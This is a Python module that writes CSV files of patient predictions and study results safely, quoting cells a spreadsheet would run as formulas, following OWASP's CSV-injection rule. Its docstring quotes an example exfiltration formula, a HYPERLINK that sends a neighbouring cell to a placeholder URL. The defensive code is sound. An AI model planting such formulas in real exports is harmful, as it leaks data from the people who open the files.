"""Every CSV cardio writes, safe to open in a spreadsheet: the one writer (`write_csv`, `csv_text`).

Users open predictions.csv, the pseudonym key and a sweep's summary in Excel or LibreOffice, which run a cell that
starts with "=", "+", "-" or "@" (or a tab or carriage return before one) as a formula: a patient id
`=HYPERLINK("http://.../?leak="&A2,"click")` would send the next cell away when clicked. As OWASP's rule for CSV
injection says, such a text cell is written with a single quote in front, which the spreadsheet shows as text and
does not run. Numbers are left alone, negative ones included, and so is text that is a number ("-12.5"): a
spreadsheet reads it as that number, not as a formula.
"""
from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

from cardio.data.cache import atomic_path

if TYPE_CHECKING:  # pandas loads where a table is written
    import pandas as pd

#: How a cell a spreadsheet runs as a formula begins (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: Text that a spreadsheet reads as a number: "-12.5", "+3", "-1e-3".
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """`value`, with a single quote in front where it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return f"'{value}"
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells and column names are safe_cell's: number columns are not touched."""
    import pandas as pd

    out = frame.rename(columns=safe_cell)
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if not pd.api.types.is_numeric_dtype(column) and not pd.api.types.is_datetime64_any_dtype(column):
            out.isetitem(i, column.astype(object).map(safe_cell))
    return out


def csv_text(frame: pd.DataFrame, **to_csv: Any) -> str:
    """The CSV text of `frame` (pandas' to_csv, index left out unless asked), spreadsheet-safe."""
    return spreadsheet_safe(frame).to_csv(**{"index": False, **to_csv})


def write_csv(path: str | Path, frame: pd.DataFrame, **to_csv: Any) -> Path:
    """Write `frame` as a spreadsheet-safe CSV (csv_text), atomically: the one way cardio writes a CSV."""
    with atomic_path(path) as tmp:
        Path(tmp).write_text(csv_text(frame, **to_csv))
    return Path(path)
